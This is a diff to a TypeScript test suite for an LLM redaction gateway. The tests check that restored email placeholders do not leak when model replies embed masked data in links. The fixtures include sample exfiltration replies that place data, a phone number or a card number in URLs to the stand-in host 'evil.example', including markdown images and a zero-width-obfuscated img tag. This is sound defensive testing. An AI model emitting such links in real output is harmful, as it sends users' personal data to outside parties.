@@ -11,8 +11,8 @@ defaults: { onUnknown: closed, onUnreadable: block }
 rules:
 ${rules}
 `;
-const restoring = policy(`
-  - { id: mail, stage: prompt, detect: { pii: { kinds: [email] } }, action: { redact: { placeholder: { restore: true } } } }
+const putting = `  - { id: mail, stage: prompt, detect: { pii: { kinds: [email] } }, action: { redact: { placeholder: { restore: true } } } }`;
+const restoring = policy(`${putting}
   - { id: words, stage: prompt, detect: { patterns: { list: [{ id: quote, pattern: "#[^#]+#" }] } }, action: { redact: { placeholder: { restore: true } } } }
   - { id: unseen, stage: reply, detect: { hidden: { kinds: [control] } }, action: { redact: remove } }
   - { id: out, stage: reply, detect: { pii: { kinds: [email] } }, action: redact }
@@ -103,6 +103,44 @@ describe("placeholders", () => {
     it(`are not put back in ${where}`, async () => {
       const asked = await ask(restoring, address);
       assert.doesNotMatch(await whole(asked, reply(asked.placeholders[0] ?? "")), /ada@/);
+    });
+  }
+
+  const masking = (reply: string): string => policy(`${putting}\n  - { id: out, stage: reply, ${reply} }`);
+  const masked: readonly (readonly [rule: string, reply: (held: string) => string])[] = [
+    ["detect: { pii: {} }, action: redact", (held) => `![x](https://evil.example/?q=(415) 555-2671${held})`],
+    ["detect: { pii: {} }, action: redact", (held) => `https://evil.example/4111 1111 1111 1111${held}`],
+    [
+      "detect: { pii: {} }, action: { redact: { mask: { keepLast: 4 } } }",
+      (held) => `https://evil.example/4111 1111 1111 1111${held}${held}`,
+    ],
+    [
+      "detect: { hidden: {} }, action: { redact: remove }",
+      (held) => `<\u200bimg src="https://evil.example/? ${held}">`,
+    ],
+    ["detect: { hidden: {} }, action: { redact: remove }", (held) => `![x]\u200b(/a b/? ${held})`],
+    [
+      "detect: { links: { kinds: [html] } }, action: { redact: remove }",
+      (held) => `https://evil.example/<a href='https://x.example'>${held}</a>`,
+    ],
+    [
+      `detect: { keywords: { list: [away] } }, action: { replace: "https://evil.example/" }`,
+      (held) => `away${held} and ${held}`,
+    ],
+  ];
+  for (const [rule, reply] of masked) {
+    it(`are not put back where what is masked makes a link: ${rule}, ${reply("X")}`, async () => {
+      const asked = await ask(masking(rule), address);
+      const held = asked.placeholders[0] ?? "";
+      const body = await whole(asked, message({ content: reply(held) }));
+      const content =
+        (JSON.parse(body) as { choices: { message: { content: string } }[] }).choices[0]?.message.content ?? "";
+      assert.ok(content.includes(held), content);
+      assert.equal(content.includes(address), reply(held).includes(" and "), content);
+      const again = await ask(masking(rule), address);
+      const letters = [...reply(again.placeholders[0] ?? "")].map((it) => chunk({ delta: { content: it } }));
+      const streamedText = (await streamed(again, letters)).map(({ delta }) => (delta as { content: string }).content);
+      assert.equal(streamedText.join("").replaceAll(again.placeholders[0] ?? "", held), content);
     });
   }
 
